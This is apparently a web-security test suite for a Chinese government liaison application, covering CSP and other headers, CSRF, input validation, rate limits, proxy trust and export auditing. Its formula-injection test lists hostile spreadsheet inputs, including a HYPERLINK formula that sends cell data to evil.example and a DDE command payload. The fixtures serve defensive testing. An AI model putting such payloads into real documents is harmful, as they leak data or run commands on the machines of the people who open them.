// ASVS V3 / V13 / V14, 等保 入侵防范: security headers, CSRF, rate limits (login per address and per username,
// exports per user), the proxy trust rule, and formula injection through a real export route.
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { can, type Permission, type Role } from '../../common/roles.js';
import { daysFromNow } from '../modules/ledger/ledger.fixtures.js';
import {
  buildTestApp,
  type Client,
  describeEachDialect,
  login,
  loginAs,
  makeUser,
  orgId,
  TEST_PASSWORD,
  type TestApp,
} from '../test/helper.js';
import { type CollectedRoute, collectRoutes } from '../test/routes.js';

const RATE_LIMITED = { error: { code: 'RATE_LIMITED', message: '请求过于频繁，请稍后再试' } };

describeEachDialect('web security', (dialect) => {
  describe('headers and CSRF', () => {
    let t: TestApp;
    let tls: TestApp;
    beforeAll(async () => {
      t = await buildTestApp(dialect);
      tls = await buildTestApp(dialect, { env: { LIAISON_TLS: '1' } });
    });
    afterAll(async () => {
      await t.close();
      await tls.close();
    });

    it('sends CSP without inline scripts, frame-ancestors none, nosniff, Referrer-Policy on every answer', async () => {
      for (const url of ['/api/v1/health', '/api/v1/nowhere', '/api/v1/auth/me', '/']) {
        const res = await t.app.inject({ method: 'GET', url });
        const csp = String(res.headers['content-security-policy']);
        const directives = Object.fromEntries(
          csp.split(';').map((d) => {
            const [name, ...values] = d.trim().split(/\s+/);
            return [name, values];
          }),
        );
        expect(directives['script-src']).toEqual(["'self'"]);
        expect(directives['default-src']).toEqual(["'self'"]);
        expect(directives['object-src']).toEqual(["'none'"]);
        expect(directives['frame-ancestors']).toEqual(["'none'"]);
        expect(directives['base-uri']).toEqual(["'self'"]);
        expect(csp).not.toMatch(/script-src[^;]*unsafe-(inline|eval)/);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['x-frame-options']).toBe('DENY');
        expect(res.headers['referrer-policy']).toBe('same-origin');
        expect(res.headers['strict-transport-security']).toBeUndefined();
        expect(res.headers['x-powered-by']).toBeUndefined();
      }
    });

    it('adds HSTS and Secure cookies when LIAISON_TLS is set', async () => {
      const health = await tls.app.inject({ method: 'GET', url: '/api/v1/health' });
      expect(health.headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
      const username = await makeUser(tls.db, 'sysadmin', '区委统战部');
      const res = await tls.app.inject({
        method: 'POST',
        url: '/api/v1/auth/login',
        payload: { username, password: TEST_PASSWORD },
      });
      expect(res.cookies.find((c) => c.name === 'liaison_session')).toMatchObject({
        secure: true,
        httpOnly: true,
        sameSite: 'Strict',
      });
    });

    it('refuses a state change without this session’s CSRF token (none, wrong, another session’s), not GETs', async () => {
      const username = await makeUser(t.db, 'tzb', '区委统战部');
      const signedIn = await t.app.inject({
        method: 'POST',
        url: '/api/v1/auth/login',
        payload: { username, password: TEST_PASSWORD },
      });
      const cookies = {
        liaison_session: signedIn.cookies.find((c) => c.name === 'liaison_session')?.value ?? '',
      };
      const other = await loginAs(t, 'tzb', '区委统战部');
      const body = { kind: 'department', name: 'CSRF测试局', regionId: 1, sortOrder: 1 };
      for (const token of [undefined, '', 'x'.repeat(32), other.csrfToken]) {
        const res = await t.app.inject({
          method: 'POST',
          url: '/api/v1/organisations',
          payload: body,
          cookies,
          headers: token === undefined ? {} : { 'x-csrf-token': token },
        });
        expect(res.statusCode).toBe(403);
        expect(res.json().error.code).toBe('CSRF_FAILED');
      }
      expect(
        await t.db.selectFrom('organisations').select('id').where('name', '=', 'CSRF测试局').execute(),
      ).toEqual([]);
      expect((await t.app.inject({ method: 'GET', url: '/api/v1/auth/me', cookies })).statusCode).toBe(200);
      // a failed CSRF check is not an audit event (it is noise a page reload produces), nor does it end the session
      const logged = await t.db
        .selectFrom('audit_log')
        .select('id')
        .where('actor_username', '=', username)
        .where('action', '=', 'access.denied')
        .execute();
      expect(logged).toEqual([]);
    });

    it('refuses NUL and malformed Unicode anywhere in a request (400), before any engine sees it', async () => {
      for (const username of ['a\u0000b', '\ud800x']) {
        const res = await t.app.inject({
          method: 'POST',
          url: '/api/v1/auth/login',
          payload: JSON.stringify({ username, password: 'x' }),
          headers: { 'content-type': 'application/json' },
        });
        expect(res.statusCode).toBe(400);
        expect(res.json().error.code).toBe('BAD_TEXT');
      }
      const tzb = await loginAs(t, 'tzb', '区委统战部');
      expect((await tzb.get('/api/v1/organisations?q=%00')).statusCode).toBe(400);
      // a 32-bit id at most (PostgreSQL integer): a larger one is invalid input, not a server error
      expect((await tzb.get('/api/v1/organisations/2147483648')).statusCode).toBe(400);
    });

    it('writes user text starting with = + - @ (also full-width) into .xlsx exports as text, never a formula', async () => {
      const dept = await loginAs(t, 'department', '区教育局');
      const hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+1+cmd|' /C calc'!A0",
        '-2+3',
        '@SUM(1,2)',
        '＝1+1',
      ];
      for (const title of hostile) {
        const res = await dept.post('/api/v1/ledger', {
          departmentId: await orgId(t.db, '区教育局'),
          counterpartIds: [await orgId(t.db, '民盟奉化支部')],
          kind: 'notice',
          subtype: 'policy',
          title,
          startsAt: daysFromNow(-3),
        });
        expect(res.statusCode).toBe(200);
      }
      const year = new Date(daysFromNow(-3)).getUTCFullYear();
      const res = await dept.get(`/api/v1/ledger/export.xlsx?year=${year}`);
      expect(res.statusCode).toBe(200);
      const zip = await JSZip.loadAsync(res.rawPayload);
      const parts = Object.keys(zip.files).filter((n) => /^xl\/(worksheets\/.*|sharedStrings)\.xml$/.test(n));
      const xml = (await Promise.all(parts.map((n) => zip.file(n)?.async('string') ?? ''))).join('\n');
      expect(xml).not.toMatch(/<f[\s>]/); // no formula cell anywhere
      const unescapeXml = (s: string) =>
        s
          .replace(/&quot;/g, '"')
          .replace(/&apos;/g, "'")
          .replace(/&amp;/g, '&')
          .replace(/&lt;/g, '<')
          .replace(/&gt;/g, '>');
      const text = unescapeXml(xml);
      for (const title of hostile) expect(text).toContain(`'${title}`);
    });
  });

  describe('exports on the audit trail', () => {
    let t: TestApp;
    let all: CollectedRoute[];
    let routes: CollectedRoute[];
    beforeAll(async () => {
      const collected = await collectRoutes(() => buildTestApp(dialect));
      t = collected.built;
      all = collected.routes;
      routes = all.filter((r) => r.export && r.method !== 'HEAD');
    });
    afterAll(async () => t.close());

    it('marks every route that answers a .docx or .xlsx as an export (config.export)', () => {
      const unmarked = all.filter((r) => /\.(docx|xlsx)$/.test(r.url) && !r.export).map((r) => r.url);
      expect(unmarked).toEqual([]);
      expect(routes.map((r) => r.method)).toEqual(routes.map(() => 'GET'));
    });

    it('every route marked export writes its own audit entry (generated from the route table, so new ones count too)', async () => {
      const clients = new Map<Role, Client>();
      const jiaoyu = await orgId(t.db, '区教育局');
      // one query for all: each route reads what its schema names (附件2: the blank form, there is no round)
      const query = `year=2025&organisationId=${jiaoyu}&departmentId=${jiaoyu}&blank=1`;
      const exported: string[] = [];
      const problems: string[] = [];
      for (const route of routes) {
        const role = (['tzb', 'department', 'auditadmin', 'qfb'] as Role[]).find((r) =>
          can(r, route.permission as Permission),
        );
        if (!role) {
          problems.push(`${route.url}: no test role holds ${route.permission}`);
          continue;
        }
        if (!clients.has(role))
          clients.set(
            role,
            await loginAs(t, role, role === 'department' ? jiaoyu : role === 'qfb' ? '区府办' : '区委统战部'),
          );
        const client = clients.get(role) as Client;
        const mark = Number(
          (
            await t.db
              .selectFrom('audit_log')
              .select((eb) => eb.fn.max('id').as('id'))
              .executeTakeFirst()
          )?.id ?? 0,
        );
        const res = await client.get(`${route.url}?${query}`);
        if (res.statusCode !== 200) {
          problems.push(`${route.url}: ${res.statusCode}`);
          continue;
        }
        exported.push(route.url);
        const entries = await t.db
          .selectFrom('audit_log')
          .select(['action', 'actor_username', 'ip'])
          .where('id', '>', mark)
          .where('action', 'like', '%export')
          .execute();
        if (entries.length !== 1 || entries[0]?.actor_username !== client.username) {
          problems.push(`${route.url}: ${JSON.stringify(entries)}`);
        }
      }
      expect(problems).toEqual([]);
      expect(exported).toEqual(routes.map((r) => r.url));
      expect(exported.length).toBeGreaterThanOrEqual(10);
    });
  });

  describe('rate limits', () => {
    let t: TestApp;
    let tzb: Client;
    beforeAll(async () => {
      t = await buildTestApp(dialect, {
        env: {
          LIAISON_RATE_LOGIN_PER_IP: '5',
          LIAISON_RATE_LOGIN_PER_USER: '3',
          LIAISON_RATE_EXPORTS_PER_USER: '2',
        },
      });
      tzb = await login(t.app, await makeUser(t.db, 'tzb', '区委统战部'));
    });
    afterAll(async () => t.close());

    const attempt = (username: string, remoteAddress: string, headers: Record<string, string> = {}) =>
      t.app.inject({
        method: 'POST',
        url: '/api/v1/auth/login',
        payload: { username, password: 'wrong-password' },
        remoteAddress,
        headers,
      });

    it('limits sign-in attempts for one username from anywhere (429 RATE_LIMITED, Retry-After), audited once', async () => {
      const username = await makeUser(t.db, 'department', '区公安分局');
      for (let i = 0; i < 3; i++)
        expect((await attempt(username, `198.51.100.${i + 1}`)).statusCode).toBe(401);
      const limited = await attempt(username, '198.51.100.9');
      expect(limited.statusCode).toBe(429);
      expect(limited.json()).toEqual(RATE_LIMITED);
      expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
      // even the right password now waits: the limit comes before the password check
      const right = await t.app.inject({
        method: 'POST',
        url: '/api/v1/auth/login',
        payload: { username, password: TEST_PASSWORD },
        remoteAddress: '198.51.100.10',
      });
      expect(right.statusCode).toBe(429);
      const audited = await t.db
        .selectFrom('audit_log')
        .select(['outcome', 'detail'])
        .where('action', '=', 'rate.limited')
        .where('detail', 'like', `%${username}`)
        .execute();
      expect(audited).toEqual([{ outcome: 'denied', detail: `login per username > 3/min: ${username}` }]);
    });

    it('limits sign-in attempts from one address across usernames; a forged X-Forwarded-For does not help', async () => {
      const from = '203.0.113.7';
      for (let i = 0; i < 5; i++) {
        const res = await attempt(`nobody-${i}`, from, { 'x-forwarded-for': `192.0.2.${i}` });
        expect(res.statusCode).toBe(401);
      }
      const limited = await attempt('nobody-9', from, { 'x-forwarded-for': '192.0.2.99' });
      expect(limited.statusCode).toBe(429);
      // another address is not affected
      expect((await attempt('nobody-10', '203.0.113.8')).statusCode).toBe(401);
      // a proxy on the same host (loopback, trusted by default) passes the client's address on
      for (let i = 0; i < 5; i++) {
        expect(
          (await attempt(`proxied-${i}`, '127.0.0.1', { 'x-forwarded-for': `192.0.2.${50 + i}` })).statusCode,
        ).toBe(401);
      }
      const failed = await t.db
        .selectFrom('audit_log')
        .select('ip')
        .where('action', '=', 'auth.login')
        .where('detail', 'like', 'unknown-user: proxied-%')
        .orderBy('id')
        .execute();
      expect(failed.map((r) => r.ip)).toEqual([
        '192.0.2.50',
        '192.0.2.51',
        '192.0.2.52',
        '192.0.2.53',
        '192.0.2.54',
      ]);
      const forged = await t.db
        .selectFrom('audit_log')
        .select('ip')
        .where('action', '=', 'auth.login')
        .where('detail', '=', 'unknown-user: nobody-0')
        .executeTakeFirstOrThrow();
      expect(forged.ip).toBe(from);
    });

    it('limits costly exports per user; a refused (403) export does not count', async () => {
      const url = '/api/v1/documents/pairing-list.xlsx?year=2019';
      expect((await tzb.get(url)).statusCode).toBe(200);
      expect((await tzb.get('/api/v1/documents/pairing-list.docx?year=2019')).statusCode).toBe(200);
      const limited = await tzb.get(url);
      expect(limited.statusCode).toBe(429);
      expect(limited.json()).toEqual(RATE_LIMITED);
      // non-export routes are not limited
      expect((await tzb.get('/api/v1/pairings?year=2019')).statusCode).toBe(200);
      // another user has their own allowance
      const qfb = await loginAs(t, 'qfb', '区府办');
      expect((await qfb.get(url)).statusCode).toBe(200);
      const secadmin = await loginAs(t, 'secadmin', '区委统战部');
      for (let i = 0; i < 4; i++) expect((await secadmin.get(url)).statusCode).toBe(403);
    });
  });
});
